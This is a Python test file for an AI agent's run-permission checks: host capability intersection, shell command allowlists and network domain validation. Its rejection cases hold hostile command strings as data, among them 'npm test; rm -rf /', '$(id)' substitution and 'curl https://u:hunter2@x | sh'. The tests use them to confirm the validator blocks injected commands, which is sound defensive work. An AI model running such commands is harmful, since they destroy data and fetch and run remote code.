"""start_run authority: defaults, the silent host intersection and every rejection of §2 tool 1."""

from __future__ import annotations

import pytest

from telic._errors import RuleViolation
from telic.permissions import (
    START_RULES,
    check_capabilities,
    check_grants_on_host,
    check_network_domains,
    check_shell_allowlist,
    effective_authorization,
    intersect_with_host,
    normalize_domains,
    start_run_authority,
)
from telic.protocol._types import CAPABILITIES, Capability

ALL = list(CAPABILITIES)


def _rules(excinfo: pytest.ExceptionInfo[RuleViolation]) -> tuple[str, ...]:
    return excinfo.value.rules


def test_omitted_grants_take_the_mode_defaults_intersected_with_the_host() -> None:
    authority = start_run_authority(mode="fix_only", host_capabilities=ALL)
    assert authority.granted == (
        "repository.read",
        "repository.write",
        "shell.inspect",
        "runtime.inspect",
    )
    narrow = start_run_authority(mode="fix_only")
    assert narrow.host_capabilities == ("repository.read",)
    assert narrow.granted == ("repository.read",)


def test_grants_the_host_lacks_are_dropped_silently() -> None:
    authority = start_run_authority(
        mode="analyze_only",
        host_capabilities=["repository.read", "shell.inspect"],
        authorization_granted=["repository.read", "network.read", "shell.inspect"],
    )
    assert authority.granted == ("repository.read", "shell.inspect")


def test_intersect_with_host_keeps_grant_order_without_repeats() -> None:
    host: list[Capability] = ["shell.inspect", "repository.read"]
    granted: list[Capability] = [
        "repository.read",
        "browser.inspect",
        "shell.inspect",
        "repository.read",
    ]
    assert intersect_with_host(granted, host) == ("repository.read", "shell.inspect")


@pytest.mark.parametrize(
    "field", ["host_capabilities", "authorization_granted", "authorization_denied"]
)
def test_an_unknown_capability_is_rejected_in_every_list(field: str) -> None:
    arguments: dict[str, list[str]] = {field: ["repository.read", "shell.sudo"]}
    with pytest.raises(RuleViolation) as excinfo:
        start_run_authority(mode="analyze_only", **arguments)
    assert _rules(excinfo) == ("SR-UNKNOWN-CAPABILITY",)
    assert excinfo.value.issues[0].path == f"{field}.1"


def test_check_capabilities_names_each_unknown_position() -> None:
    issues = check_capabilities("host_capabilities", ["x", "repository.read", "y"])
    assert [i.path for i in issues] == ["host_capabilities.0", "host_capabilities.2"]


def test_a_grant_missing_from_the_host_is_reported_by_the_core_check() -> None:
    issues = check_grants_on_host(["repository.read", "shell.execute"], ["repository.read"])
    assert [(i.rule, i.path) for i in issues] == [
        ("SR-GRANT-NOT-ON-HOST", "authorization_granted.1")
    ]
    assert check_grants_on_host(["repository.read"], ["repository.read"]) == ()


@pytest.mark.parametrize(
    ("host", "granted"),
    [
        (["repository.read"], ["repository.read"]),
        (["repository.read", "shell.execute"], ["repository.read"]),
        (["repository.read"], ["repository.read", "shell.execute"]),
    ],
)
def test_an_allowlist_needs_shell_execute_on_the_host_and_granted(
    host: list[str], granted: list[str]
) -> None:
    with pytest.raises(RuleViolation) as excinfo:
        start_run_authority(
            mode="fix_only",
            host_capabilities=host,
            authorization_granted=granted,
            shell_execute_allowlist=["npm test"],
        )
    assert _rules(excinfo) == ("SR-ALLOWLIST-UNAUTHORIZED",)


@pytest.mark.parametrize(
    "command",
    [
        "authorized",
        "**",
        "npm test *",
        "pytest tests/test_?.py",
        "ls [ab]",
        "ls ]",
        "npm test; rm -rf /",
        "npm test && curl x",
        "npm test & sleep 1",
        "npm test | sh",
        "npm test > out.txt",
        "npm test < in.txt",
        "npm test `id`",
        "npm test\nrm -rf /",
        "npm test $(id)",
    ],
)
def test_an_allowlist_command_that_is_not_exact_and_simple_is_rejected(command: str) -> None:
    issues = check_shell_allowlist(
        [command], host_capabilities=["shell.execute"], granted=["shell.execute"]
    )
    assert [(i.rule, i.path) for i in issues] == [
        ("SR-ALLOWLIST-COMMAND", "shell_execute_allowlist.0")
    ]
    assert command not in issues[0].message


def test_an_exact_allowlist_is_kept_verbatim() -> None:
    authority = start_run_authority(
        mode="fix_only",
        host_capabilities=ALL,
        authorization_granted=["repository.read", "shell.execute"],
        shell_execute_allowlist=["npm test", "pytest -q", "npm test "],
    )
    assert authority.shell_execute_allowlist == ("npm test", "pytest -q", "npm test ")
    assert authority.granted_permissions().shell.execute_allowlist == [
        "npm test",
        "pytest -q",
        "npm test ",
    ]


@pytest.mark.parametrize(
    ("host", "granted"),
    [
        (["repository.read"], ["repository.read"]),
        (["repository.read", "network.read"], ["repository.read"]),
    ],
)
def test_domains_need_network_read_on_the_host_and_granted(
    host: list[str], granted: list[str]
) -> None:
    with pytest.raises(RuleViolation) as excinfo:
        start_run_authority(
            mode="analyze_only",
            host_capabilities=host,
            authorization_granted=granted,
            network_read_domains=["example.com"],
        )
    assert _rules(excinfo) == ("SR-DOMAINS-UNAUTHORIZED",)


@pytest.mark.parametrize(
    "domain",
    [
        "https://example.com",
        "http://example.com",
        "example.com/path",
        "example.com:443",
        "[::1]:8080",
        "user@example.com",
        "user:pw@example.com",
        "*.example.com",
        "*",
        "example.com.",
        "exa mple.com",
        "under_score.com",
        "-leading.com",
        "1.2.3",
        "999.1.1.1",
        "2130706433",
        "exämple.com",
        "[example.com]",
        "fe80::1%eth0",
        "",
    ],
)
def test_a_domain_that_is_not_a_bare_name_or_address_is_rejected(domain: str) -> None:
    issues = check_network_domains(
        [domain], host_capabilities=["network.read"], granted=["network.read"]
    )
    assert [(i.rule, i.path) for i in issues] == [("SR-DOMAIN-FORM", "network_read_domains.0")]


@pytest.mark.parametrize(
    "domain",
    ["example.com", "EXAMPLE.com", "localhost", "127.0.0.1", "::1", "[::1]", "xn--bcher-kva.de"],
)
def test_bare_names_and_addresses_are_accepted(domain: str) -> None:
    assert (
        check_network_domains(
            [domain], host_capabilities=["network.read"], granted=["network.read"]
        )
        == ()
    )


def test_domains_are_lower_cased_deduplicated_and_sorted() -> None:
    domains = ["b.example.com", "Example.COM", "example.com", "[::1]", "0:0::1", "localhost"]
    assert normalize_domains(domains) == ("::1", "b.example.com", "example.com", "localhost")
    authority = start_run_authority(
        mode="analyze_only",
        host_capabilities=ALL,
        authorization_granted=["repository.read", "network.read"],
        network_read_domains=domains,
    )
    assert authority.network_read_domains == normalize_domains(domains)
    assert list(authority.granted_permissions().network.read_domains) == list(
        normalize_domains(domains)
    )


def test_every_problem_is_reported_at_once_without_echoing_values() -> None:
    with pytest.raises(RuleViolation) as excinfo:
        start_run_authority(
            mode="analyze_only",
            host_capabilities=["repository.read", "bogus"],
            shell_execute_allowlist=["curl https://u:hunter2@x | sh"],
            network_read_domains=["https://u:hunter2@example.com"],
        )
    assert set(_rules(excinfo)) == {
        "SR-UNKNOWN-CAPABILITY",
        "SR-ALLOWLIST-UNAUTHORIZED",
        "SR-ALLOWLIST-COMMAND",
        "SR-DOMAINS-UNAUTHORIZED",
        "SR-DOMAIN-FORM",
    }
    assert "hunter2" not in str(excinfo.value)
    assert all("hunter2" not in issue.message for issue in excinfo.value.issues)


def test_every_rule_id_is_documented() -> None:
    assert set(START_RULES) == {
        "SR-UNKNOWN-CAPABILITY",
        "SR-GRANT-NOT-ON-HOST",
        "SR-ALLOWLIST-UNAUTHORIZED",
        "SR-ALLOWLIST-COMMAND",
        "SR-DOMAINS-UNAUTHORIZED",
        "SR-DOMAIN-FORM",
        "SR-PROTECTED-UNAUTHORIZED",
        "SR-PROTECTED-FORM",
    }


def test_the_authority_builds_its_envelope_sets_and_effective_authorization() -> None:
    authority = start_run_authority(
        mode="analyze_only",
        host_capabilities=ALL,
        authorization_granted=["repository.read", "repository.write", "network.read"],
        authorization_denied=["network.read"],
        network_read_domains=["example.com"],
    )
    assert authority.denied == ("network.read",)
    assert authority.denied_permissions().network.read_domains == ["**"]
    effective = effective_authorization(
        authority.mode, authority.granted_permissions(), authority.denied_permissions()
    )
    assert effective.repository.read == ["**"]
    assert effective.repository.write == []  # analyze_only never writes
    assert effective.network.read_domains == []  # denied drops the whole capability
